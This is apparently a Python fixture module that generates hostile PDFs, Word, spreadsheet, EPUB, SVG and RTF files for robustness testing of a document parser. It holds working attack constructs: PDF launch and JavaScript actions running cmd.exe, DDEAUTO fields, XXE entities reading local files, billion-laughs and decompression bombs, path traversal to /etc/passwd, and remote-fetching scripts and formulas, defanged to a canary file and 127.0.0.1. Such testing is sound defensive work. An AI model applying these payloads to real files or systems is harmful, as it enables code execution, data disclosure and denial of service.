"""PDFs, office documents and books that mean harm."""

from __future__ import annotations

from collections.abc import Iterator

from hostile import samples
from hostile.samples import HEAD, docx, epub, odt, pdf, xlsx
from made.bombs import zlibbed
from made.zips import zipped

Piece = tuple[str, bytes]


def pieces(canary: str) -> Iterator[Piece]:
    """Each file's name and bytes; whatever is run or followed touches the file ``canary``."""
    yield from _active_pdfs(canary)
    yield from _broken_pdfs()
    yield from _endless_pdfs()
    yield from _entities(canary)
    yield from _odd_packages(canary)
    yield from _rtfs(canary)


def _active_pdfs(canary: str) -> Iterator[Piece]:
    run = f"/S /Launch /F ({canary}) /Win << /F (cmd.exe) /P (/c touch {canary}) >>"
    java = f"/S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:9/{canary}'\\);)"
    reach = "/S /URI /URI (http://127.0.0.1:9/reached)"
    submit = "/S /SubmitForm /F (http://127.0.0.1:9/form)"
    fetch = "/S /GoToR /F << /FS /URL /F (http://127.0.0.1:9/other.pdf) >> /D [0 /Fit]"
    for name, act in (("launch", run), ("script", java), ("uri", reach), ("submit", submit),
                      ("remote", fetch)):  # fmt: skip
        yield f"{name} when opened.pdf", pdf(catalog=f"/OpenAction << {act} >>")
        link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << {act} >> >>"
        yield f"{name} in a link.pdf", pdf(page=f"/Annots [{link}] /AA << /O << {act} >> >>")
    said = f"#!/bin/sh\ntouch {canary}"
    kept = f"<< /Type /EmbeddedFile /Length {len(said)} >>\nstream\n{said}\nendstream"
    files = "/Names << /EmbeddedFiles << /Names [(../../run.sh) 6 0 R] >> >>"
    spec = "<< /Type /Filespec /F (../../run.sh) /UF (../../run.sh) /EF << /F 7 0 R >> >>"
    yield "embedded.pdf", pdf(spec, kept, catalog=files)
    itself = "<< /Type /Filespec /F (a.pdf) /EF << /F 6 0 R >> >>"
    yield "embeds itself.pdf", pdf(itself, catalog=files)
    form = "/AcroForm << /XFA 6 0 R /Fields [] >>"
    xfa = f'<!DOCTYPE x [<!ENTITY y SYSTEM "file://{canary}">]><xdp>&y;</xdp>'
    yield "xfa.pdf", pdf(f"<< /Length {len(xfa)} >>\nstream\n{xfa}\nendstream", catalog=form)


def _broken_pdfs() -> Iterator[Piece]:
    whole = pdf()
    yield "encrypted.pdf", whole.replace(
        b"/Root 1 0 R",
        b"/Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O ("
        + b"o" * 32 + b") /U (" + b"u" * 32 + b") >> /ID [(a) (a)]",
    )  # fmt: skip
    yield "encrypted by nobody.pdf", whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 99 0 R")
    yield "no xref.pdf", whole[: whole.index(b"xref")]
    yield "xref beyond.pdf", whole.replace(b"startxref\n", b"startxref\n9999999")
    yield "two heads.pdf", whole + whole
    yield "late head.pdf", b"\x00" * 1000 + whole
    yield "negative length.pdf", whole.replace(b"/Length ", b"/Length -")
    yield "huge length.pdf", whole.replace(b"/Length ", b"/Length 99999999")
    yield "huge page.pdf", whole.replace(b"[0 0 595 842]", b"[0 0 1e30 1e30]")
    yield "page of no size.pdf", whole.replace(b"[0 0 595 842]", b"[0 0 0 0]")
    yield "million kids.pdf", whole.replace(b"[3 0 R]", b"[" + b"3 0 R " * 20_000 + b"]")
    yield "count lies.pdf", whole.replace(b"/Count 1", b"/Count 2147483647")
    yield "deep arrays.pdf", whole.replace(b"[3 0 R]", b"[" * 50_000 + b"3 0 R" + b"]" * 50_000)
    bomb = zlibbed(200_000_000)
    stream = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(bomb), bomb)
    yield (
        "stream bomb.pdf",
        whole.replace(b"<< /Length", b"<< /Old", 1)
        .replace(b"/Contents 4 0 R", b"/Contents 6 0 R")
        .replace(b"xref\n0", b"6 0 obj\n" + stream + b"\nendobj\nxref\n0", 1),
    )
    filters = b"/Filter [" + b"/ASCIIHexDecode " * 5000 + b"] /Length"
    yield "five thousand filters.pdf", whole.replace(b"/Length", filters, 1)


def _endless_pdfs() -> Iterator[Piece]:
    whole = pdf()
    yield "page is its own parent.pdf", whole.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")
    yield "two parents.pdf", whole.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R 3 0 R 2 0 R]")
    start = whole.index(b"xref\n0")
    loop = b"/Root 1 0 R /Prev %d" % start
    yield "xref loop.pdf", whole.replace(b"/Root 1 0 R", loop)
    yield "xref stream loop.pdf", whole.replace(b"/Root 1 0 R", b"/XRefStm %d /Root 1 0 R" % start)
    yield "reference to itself.pdf", pdf("6 0 R", catalog="/Names 6 0 R")
    form = "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 6 0 R >> "
    again = form + ">> /Length 5 >>\nstream\n/A Do\nendstream"
    yield (
        "form draws itself.pdf",
        pdf(again, page="/Resources << /XObject << /A 6 0 R >> >>", stream=b"/A Do"),
    )
    twice = [
        f"{form.replace('6 0 R', f'{n + 1} 0 R')}>> /Length 11 >>\nstream\n/A Do /A Do\nendstream"
        for n in range(6, 40)
    ]
    yield (
        "forms double.pdf",
        pdf(*twice, page="/Resources << /XObject << /A 6 0 R >> >>", stream=b"/A Do /A Do"),
    )
    yield "endless content.pdf", pdf(stream=b"q " * 500_000 + b"BT (a) Tj ET")
    shading = "<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1e9 0 1e9] /Function 7 0 R >>"
    function = "<< /FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1] /Length 9 >>"
    yield "endless shading.pdf", pdf(
        shading, function + "\nstream\n{ " + "dup " * 5000 + "}\nendstream",
        page="/Resources << /Shading << /S 6 0 R >> >>", stream=b"/S sh",
    )  # fmt: skip
    font = "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar"
    glyph = "<< /Length 23 >>\nstream\nBT /F 9 Tf (a) Tj ET Do\nendstream"
    yield "font draws itself.pdf", pdf(
        font + " 97 /LastChar 97 /Widths [9] /CharProcs << /a 7 0 R >> /Encoding << /Differences "
        "[97 /a] >> /Resources << /Font << /F 6 0 R >> >> >>", glyph,
        page="/Resources << /Font << /F1 6 0 R >> >>", stream=b"BT /F1 9 Tf (aaaa) Tj ET",
    )  # fmt: skip
    program = (
        b"%!PS-AdobeFont-1.0: A\n/Private 9 dict dup begin { {} loop } exec\neexec " + b"A" * 900
    )
    size = f"/Length {len(program)} /Length1 {len(program)}"
    file = f"<< {size} >>\nstream\n{program.decode()}\nendstream"
    yield "endless font program.pdf", pdf(
        "<< /Type /Font /Subtype /Type1 /BaseFont /A /FontDescriptor 7 0 R >>",
        "<< /Type /FontDescriptor /FontName /A /Flags 4 /FontFile 8 0 R >>", file,
        page="/Resources << /Font << /F1 6 0 R >> >>",
    )  # fmt: skip
    map_ = "<< /Length 300 >>\nstream\nbegincmap 1 begincodespacerange <00> <FFFFFFFF> "
    map_ += "endcodespacerange 1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange\nendstream"
    yield "map of all letters.pdf", pdf(
        "<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 7 0 R "
        "/DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A >>] >>", map_,
        page="/Resources << /Font << /F1 6 0 R >> >>",
    )  # fmt: skip
    first = "<< /Title (a) /Next 6 0 R /First 6 0 R /Parent 6 0 R >>"
    yield "outline loop.pdf", pdf(first, catalog="/Outlines 6 0 R")


def _entities(canary: str) -> Iterator[Piece]:
    """Bombs and external entities in all that is XML."""
    laughs = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
    )
    for name, declared, used in (
        ("laughs", laughs, "&a11;"),
        ("quadratic", f'<!ENTITY x "{"x" * 100_000}">', "&x;" * 20_000),
        ("external file", f'<!ENTITY x SYSTEM "file://{canary}.secret">', "&x;"),
        ("external address", '<!ENTITY x SYSTEM "http://127.0.0.1:9/reached">', "&x;"),
        ("device", '<!ENTITY x SYSTEM "file:///dev/zero">', "&x;"),
        ("parameter", '<!ENTITY % x SYSTEM "http://127.0.0.1:9/x.dtd"> %x;', "a"),
        ("loop", '<!ENTITY x "&y;"><!ENTITY y "&x;">', "&x;"),
    ):
        kind = f"<!DOCTYPE x [{declared}]>"
        paragraph = f"<w:p><w:r><w:t>{used}</w:t></w:r></w:p>"
        cell = f'<row r="2"><c r="A2" t="inlineStr"><is><t>{used}</t></is></c></row>'
        yield f"{name}.docx", docx(paragraph, kind)
        yield f"{name}.odt", odt(f"<text:p>{used}</text:p>", kind)
        yield f"{name}.ods", odt(f"<text:p>{used}</text:p>", kind, kind="spreadsheet")
        yield f"{name}.xlsx", xlsx(cell, kind)
        yield f"{name}.epub", epub(f"<p>{used}</p>", kind)
        plain = f'{HEAD}{kind}<svg xmlns="http://www.w3.org/2000/svg"><text>{used}</text></svg>'
        yield f"{name}.svg", plain.encode()
        yield f"{name}.xhtml", plain.replace("svg", "html").encode()
        rdf = samples.SAMPLES[".rdf"]().decode().replace(HEAD, HEAD + kind)
        yield f"{name}.rdf", rdf.replace("Ward", used).encode()


def _odd_packages(canary: str) -> Iterator[Piece]:
    away = '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    away += 'relationships/{}" Target="{}" TargetMode="External"/>'
    for kind in ("attachedTemplate", "image", "oleObject", "hyperlink", "frame"):
        link = away.format(kind, "http://127.0.0.1:9/reached")
        yield f"remote {kind}.docx", docx('<w:altChunk r:id="rId9"/>', links=link)
    for target in ("../../../../../../etc/passwd", "/etc/passwd", "document.xml", "\\\\host\\a"):
        inside = away.format("footnotes", target).replace("External", "Internal")
        yield f"part at {len(target)}.docx", docx(links=inside)
    field = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe /c touch {0}"/></w:p>'
    yield "field runs.docx", docx(field.format(canary))
    yield "macros.docm", docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 600})
    yield "deep.docx", docx("<w:sdt><w:sdtContent>" * 20_000)
    yield "deep tables.docx", docx("<w:tbl><w:tr><w:tc>" * 3000 + "</w:tc></w:tr></w:tbl>" * 3000)
    yield "no document.docx", zipped({"[Content_Types].xml": samples.types("a", "b"), "word/a": ""})
    yield "not XML.docx", docx(**{"word/document.xml": b"\x00\x01 no XML"})
    yield "many rows.ods", odt(
        '<table:table><table:table-row table:number-rows-repeated="1048576"><table:table-cell '
        'table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>'
        "</table:table-row></table:table>", kind="spreadsheet",
    )  # fmt: skip
    yield "many spaces.odt", odt('<text:p><text:s text:c="2147483647"/></text:p>')
    yield "far cell.xlsx", xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    yield "cell beyond.xlsx", xlsx('<row r="99999999999"><c r="ZZZZZZZ9"><v>1e999</v></c></row>')
    formula = f'WEBSERVICE("http://127.0.0.1:9/")&amp;cmd|"/c touch {canary}"!A1'
    yield "formula.xlsx", xlsx(f'<row r="3"><c r="A3"><f>{formula}</f></c></row>')
    locked = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    locked += "EncryptedPackage".encode("utf-16-le").ljust(512, b"\x00") * 4
    for suffix in (".docx", ".xlsx", ".msg", ".doc", ".xls"):
        yield f"encrypted{suffix}", locked
    yield "book without pages.epub", epub(**{"a.xhtml": b""})
    yield "book outside.epub", epub(**{"a.opf": epub()}).replace(b"a.opf", b"../op")
    spine = '<itemref idref="a"/>' * 100_000
    yield "one page a hundred thousand times.epub", epub(opf=spine)
    yield "scripts.epub", epub(f"<script>fetch('http://127.0.0.1:9/{canary}')</script>")


def _rtfs(canary: str) -> Iterator[Piece]:
    def rtf(text: str) -> bytes:
        return ("{\\rtf1\\ansi " + text + " No water came.}").encode("latin-1")

    yield "deep groups.rtf", rtf("{" * 200_000)
    yield "closing groups.rtf", rtf("}" * 200_000)
    for size in ("-1", "99999999999999999999", "2147483647", "100"):
        yield f"bin {size}.rtf", rtf(f"\\bin{size} abc")
    yield "long number.rtf", rtf("\\fs" + "9" * 100_000)
    yield "unicode lies.rtf", rtf("\\uc99999 \\u-9999999 ? \\u55357 ?\\u \\'zz")
    yield "object.rtf", rtf("{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}")
    yield "template.rtf", rtf("{\\*\\template http://127.0.0.1:9/reached}")
    field = f"{{\\field{{\\*\\fldinst INCLUDEPICTURE http://127.0.0.1:9/ {canary}}}}}"
    yield "field.rtf", rtf(field)
    yield "million pictures.rtf", rtf("{\\pict\\pngblip 89504e47}" * 20_000)
    yield "code pages.rtf", rtf("".join(f"{{\\f{n}\\fcharset{n}\\ansicpg{n}}}" for n in range(999)))
